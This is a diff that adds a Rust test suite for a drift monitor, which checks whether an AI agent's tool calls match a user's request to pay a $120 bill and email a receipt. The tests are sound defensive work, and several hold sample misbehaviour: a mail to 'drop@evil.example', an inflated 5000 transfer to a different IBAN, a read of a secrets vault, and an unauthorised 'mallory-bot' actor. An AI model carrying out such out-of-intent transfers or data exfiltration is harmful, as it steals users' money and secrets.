@@ -1,1 +1,415 @@
-//! placeholder
+//! One test per drift rule, over a hand-built workflow: "pay the $120
+//! electricity bill to ACME (DE89 3704 0044 0532 0130 00) and email the
+//! receipt to bob@example.com".
+
+use super::*;
+use crate::catalog::{Limits, parse_catalog};
+use crate::intent::{
+    Action, Clause, Entity, EntityLabel, EntitySource, Evaluation, Intent, ModelInfo, Object,
+    OpenEnded, Resource, SpeechAct, Subject, ToolGrant,
+};
+use crate::workflow::{ChainActor, Observed, StepKind, Workflow};
+use serde_json::json;
+
+fn entity(label: EntityLabel, text: &str) -> Entity {
+    Entity {
+        label,
+        text: text.into(),
+        start: 0,
+        end: 0,
+        score: 1.0,
+        source: EntitySource::Validator,
+    }
+}
+
+fn grant(name: &str, role: ToolRole, side_effecting: bool) -> ToolGrant {
+    ToolGrant {
+        name: name.into(),
+        score: 0.9,
+        role,
+        side_effecting,
+        clause: 0,
+    }
+}
+
+fn workflow() -> Workflow {
+    let catalog = parse_catalog(
+        &json!({"tools": [
+            {"name": "transfer_money", "description": "Send money",
+             "inputSchema": {"type": "object", "properties": {"amount": {"type": "number"}, "iban": {"type": "string"}}},
+             "annotations": {"readOnlyHint": false}},
+            {"name": "send_email", "description": "Send an email",
+             "inputSchema": {"type": "object", "properties": {"to": {"type": "string", "format": "email"}, "body": {"type": "string"}}},
+             "annotations": {"readOnlyHint": false}},
+            {"name": "change_password", "description": "Change the password", "annotations": {"readOnlyHint": false}},
+            {"name": "get_invoice", "description": "Read an invoice", "annotations": {"readOnlyHint": true}},
+            {"name": "list_contacts", "description": "List contacts", "annotations": {"readOnlyHint": true}},
+            {"name": "read_vault", "description": "Read stored secrets", "annotations": {"readOnlyHint": true}}
+        ]}),
+        Limits::default(),
+    )
+    .unwrap();
+    let mut props = Object::new();
+    props.insert("amount".into(), json!("$120"));
+    let intent = Intent {
+        subject: Subject::new("user", "alice"),
+        evaluations: vec![
+            Evaluation {
+                action: Action::new("transfer_money"),
+                resource: Resource {
+                    kind: "money".into(),
+                    id: "$120".into(),
+                    properties: Some(props),
+                },
+                context: None,
+            },
+            Evaluation {
+                action: Action::new("send_email"),
+                resource: Resource::new("email", "bob@example.com"),
+                context: None,
+            },
+        ],
+        tools: vec![
+            grant("transfer_money", ToolRole::Requested, true),
+            grant("send_email", ToolRole::Requested, true),
+            grant("get_invoice", ToolRole::Supporting, false),
+        ],
+        entities: vec![
+            entity(EntityLabel::Money, "$120"),
+            entity(EntityLabel::Account, "DE89 3704 0044 0532 0130 00"),
+            entity(EntityLabel::Email, "bob@example.com"),
+        ],
+        clauses: vec![Clause {
+            text: "pay the bill".into(),
+            start: 0,
+            end: 12,
+            speech_act: SpeechAct::Action,
+            score: 0.9,
+        }],
+        speech_act: SpeechAct::Action,
+        open_ended: None,
+        model: ModelInfo {
+            name: "m".into(),
+            sha256: "s".into(),
+            grant_threshold: 0.5,
+            read_threshold: 0.5,
+        },
+    };
+    let id = uuid::Uuid::nil();
+    let subject = Subject::new("user", "alice");
+    Workflow {
+        genesis: Workflow::genesis_hash(&id, &subject, &intent),
+        id,
+        tenant: "t".into(),
+        subject,
+        intent,
+        catalog_name: None,
+        catalog,
+        entry_scores: vec![0.9, 0.9, 0.01, 0.6, 0.3, 0.001],
+        allowed_agents: vec![],
+        context: None,
+        created_at: "2026-01-01T00:00:00Z".into(),
+        closed: false,
+        closed_at: None,
+    }
+}
+
+fn step(tool: &str, args: serde_json::Value) -> Observed {
+    Observed {
+        actor: Subject::new("agent", "planner"),
+        chain: vec![ChainActor {
+            sub: "planner".into(),
+            iss: None,
+        }],
+        sub: None,
+        token_verified: false,
+        kind: StepKind::Tool,
+        name: tool.into(),
+        arguments: args.as_object().cloned().unwrap_or_default(),
+        outcome: None,
+        at: "2026-01-01T00:00:01Z".into(),
+    }
+}
+
+fn codes(j: &Judgement) -> Vec<ReasonCode> {
+    j.reasons.iter().map(|r| r.code).collect()
+}
+
+fn run(wf: &Workflow, s: &Observed) -> Judgement {
+    judge(
+        wf,
+        s,
+        &DelegationGraph::new("alice"),
+        &DriftConfig::default(),
+    )
+}
+
+#[test]
+fn a_granted_tool_with_agreeing_arguments_is_allowed() {
+    let j = run(
+        &workflow(),
+        &step(
+            "transfer_money",
+            json!({"amount": 120, "iban": "DE89370400440532013000"}),
+        ),
+    );
+    assert_eq!(j.verdict, Verdict::Allowed, "{:?}", j.reasons);
+    assert_eq!(codes(&j), vec![ReasonCode::InIntent]);
+}
+
+#[test]
+fn a_side_effect_outside_the_intent_is_divergent() {
+    let j = run(&workflow(), &step("change_password", json!({})));
+    assert_eq!(j.verdict, Verdict::Divergent);
+    assert_eq!(codes(&j), vec![ReasonCode::ToolOutsideIntent]);
+    assert_eq!(
+        j.reasons[0].evidence["granted"],
+        json!(["transfer_money", "send_email"])
+    );
+}
+
+#[test]
+fn an_unknown_tool_is_divergent() {
+    let j = run(&workflow(), &step("wire_crypto", json!({})));
+    assert_eq!(codes(&j), vec![ReasonCode::UnknownTool]);
+    assert_eq!(j.verdict, Verdict::Divergent);
+}
+
+#[test]
+fn a_contradicting_amount_or_account_is_divergent_with_both_values() {
+    let j = run(
+        &workflow(),
+        &step(
+            "transfer_money",
+            json!({"amount": 5000, "iban": "DE89370400440532013000"}),
+        ),
+    );
+    assert_eq!(j.verdict, Verdict::Divergent);
+    let r = j
+        .reasons
+        .iter()
+        .find(|r| r.code == ReasonCode::ArgumentOutsideIntent)
+        .unwrap();
+    assert_eq!(r.evidence["expected"], json!(["$120"]));
+    assert_eq!(r.evidence["observed"], json!("5000"));
+    assert_eq!(r.evidence["quad"], json!(0));
+
+    let j = run(
+        &workflow(),
+        &step(
+            "transfer_money",
+            json!({"amount": "$120", "iban": "GB82 WEST 1234 5698 7654 32"}),
+        ),
+    );
+    let r = j
+        .reasons
+        .iter()
+        .find(|r| r.code == ReasonCode::ArgumentOutsideIntent)
+        .unwrap();
+    assert_eq!(r.evidence["kind"], json!("ACCOUNT"));
+}
+
+#[test]
+fn mailing_data_out_to_a_new_address_is_divergent() {
+    let j = run(
+        &workflow(),
+        &step(
+            "send_email",
+            json!({"to": "drop@evil.example", "body": "receipt"}),
+        ),
+    );
+    assert_eq!(j.verdict, Verdict::Divergent);
+    assert!(codes(&j).contains(&ReasonCode::ArgumentOutsideIntent));
+    let ok = run(
+        &workflow(),
+        &step(
+            "send_email",
+            json!({"to": "BOB@example.com", "body": "receipt"}),
+        ),
+    );
+    assert_eq!(ok.verdict, Verdict::Allowed);
+}
+
+#[test]
+fn related_reads_are_tolerated_and_unrelated_reads_divergent() {
+    let wf = workflow();
+    assert_eq!(
+        run(&wf, &step("get_invoice", json!({}))).verdict,
+        Verdict::Allowed
+    );
+    let j = run(&wf, &step("list_contacts", json!({})));
+    assert_eq!(
+        (j.verdict, codes(&j)),
+        (Verdict::Tolerated, vec![ReasonCode::RelatedRead])
+    );
+    let j = run(&wf, &step("read_vault", json!({})));
+    assert_eq!(
+        (j.verdict, codes(&j)),
+        (Verdict::Divergent, vec![ReasonCode::ReadOutsideIntent])
+    );
+}
+
+#[test]
+fn reads_classified_without_hints_are_tolerated_too() {
+    let mut wf = workflow();
+    wf.catalog = parse_catalog(
+        &json!({"tools": [{"name": "transfer_money"}, {"name": "send_email"}, {"name": "change_password"},
+                          {"name": "get_invoice"}, {"name": "list_contacts", "description": "Lists the address book."}, {"name": "read_vault"}]}),
+        Limits::default(),
+    )
+    .unwrap();
+    assert!(wf.catalog.entries[4].read_only);
+    let j = run(&wf, &step("list_contacts", json!({})));
+    assert_eq!(j.verdict, Verdict::Tolerated);
+    let j = run(&wf, &step("change_password", json!({})));
+    assert_eq!(j.verdict, Verdict::Divergent);
+}
+
+#[test]
+fn open_ended_intents_follow_their_policy() {
+    for (policy, verdict, code) in [
+        (
+            OpenEndedPolicy::Warn,
+            Verdict::Tolerated,
+            ReasonCode::OpenEndedWarning,
+        ),
+        (
+            OpenEndedPolicy::RequireApproval,
+            Verdict::Divergent,
+            ReasonCode::ApprovalRequired,
+        ),
+        (
+            OpenEndedPolicy::DenySideEffects,
+            Verdict::Divergent,
+            ReasonCode::OpenEndedSideEffect,
+        ),
+    ] {
+        let mut wf = workflow();
+        wf.intent.open_ended = Some(OpenEnded {
+            source: "the email from Ana".into(),
+            clause: 0,
+            enforcement: policy,
+        });
+        let j = run(&wf, &step("change_password", json!({})));
+        assert_eq!((j.verdict, codes(&j)), (verdict, vec![code]));
+    }
+}
+
+#[test]
+fn a_foreign_subject_is_divergent() {
+    let mut s = step("transfer_money", json!({"amount": 120}));
+    s.sub = Some("mallory".into());
+    s.token_verified = true;
+    let j = run(&workflow(), &s);
+    assert_eq!(j.verdict, Verdict::Divergent);
+    assert!(codes(&j).contains(&ReasonCode::SubjectMismatch));
+}
+
+#[test]
+fn actors_outside_the_allowed_agents_are_unexpected() {
+    let mut wf = workflow();
+    wf.allowed_agents = vec!["planner".into()];
+    assert_eq!(
+        run(&wf, &step("get_invoice", json!({}))).verdict,
+        Verdict::Allowed
+    );
+    let mut s = step("get_invoice", json!({}));
+    s.chain.push(ChainActor {
+        sub: "mallory-bot".into(),
+        iss: None,
+    });
+    s.actor = Subject::new("agent", "mallory-bot");
+    let j = run(&wf, &s);
+    assert_eq!(j.verdict, Verdict::Divergent);
+    let r = j
+        .reasons
+        .iter()
+        .find(|r| r.code == ReasonCode::UnexpectedActor)
+        .unwrap();
+    assert_eq!(r.evidence["actor"], "mallory-bot");
+}
+
+#[test]
+fn the_reported_actor_must_be_the_current_actor() {
+    let mut s = step("get_invoice", json!({}));
+    s.actor = Subject::new("agent", "someone-else");
+    let j = run(&workflow(), &s);
+    assert!(codes(&j).contains(&ReasonCode::ActorMismatch));
+    assert_eq!(j.verdict, Verdict::Divergent);
+}
+
+#[test]
+fn deep_and_cyclic_chains_are_divergent() {
+    let mut s = step("get_invoice", json!({}));
+    s.chain = (0..5)
+        .map(|i| ChainActor {
+            sub: format!("a{i}"),
+            iss: None,
+        })
+        .collect();
+    s.actor = Subject::new("agent", "a4");
+    let j = run(&workflow(), &s);
+    assert!(codes(&j).contains(&ReasonCode::DelegationTooDeep));
+
+    let mut s = step("get_invoice", json!({}));
+    s.chain = ["a", "b", "a"]
+        .iter()
+        .map(|x| ChainActor {
+            sub: x.to_string(),
+            iss: None,
+        })
+        .collect();
+    s.actor = Subject::new("agent", "a");
+    assert!(codes(&run(&workflow(), &s)).contains(&ReasonCode::DelegationCycle));
+
+    // A cycle across steps: a→b recorded before, now b→a.
+    let mut g = DelegationGraph::new("alice");
+    g.record(&["alice", "a", "b"]);
+    let mut s = step("get_invoice", json!({}));
+    s.chain = ["b", "a"]
+        .iter()
+        .map(|x| ChainActor {
+            sub: x.to_string(),
+            iss: None,
+        })
+        .collect();
+    s.actor = Subject::new("agent", "a");
+    let j = judge(&workflow(), &s, &g, &DriftConfig::default());
+    assert!(codes(&j).contains(&ReasonCode::DelegationCycle));
+}
+
+#[test]
+fn steps_on_a_closed_workflow_are_divergent() {
+    let mut wf = workflow();
+    wf.closed = true;
+    let j = run(&wf, &step("get_invoice", json!({})));
+    assert_eq!(j.verdict, Verdict::Divergent);
+    assert!(codes(&j).contains(&ReasonCode::WorkflowClosed));
+}
+
+#[test]
+fn every_code_has_a_distinct_wire_name() {
+    let all = [
+        ReasonCode::InIntent,
+        ReasonCode::RelatedRead,
+        ReasonCode::OpenEndedWarning,
+        ReasonCode::ToolOutsideIntent,
+        ReasonCode::ReadOutsideIntent,
+        ReasonCode::UnknownTool,
+        ReasonCode::ArgumentOutsideIntent,
+        ReasonCode::ApprovalRequired,
+        ReasonCode::OpenEndedSideEffect,
+        ReasonCode::SubjectMismatch,
+        ReasonCode::UnexpectedActor,
+        ReasonCode::ActorMismatch,
+        ReasonCode::DelegationTooDeep,
+        ReasonCode::DelegationCycle,
+        ReasonCode::WorkflowClosed,
+        ReasonCode::UnverifiedToken,
+    ];
+    let names: std::collections::HashSet<&str> = all.iter().map(|c| c.as_str()).collect();
+    assert_eq!(names.len(), all.len());
+    for c in all {
+        assert_eq!(serde_json::to_value(c).unwrap(), json!(c.as_str()));
+    }
+}
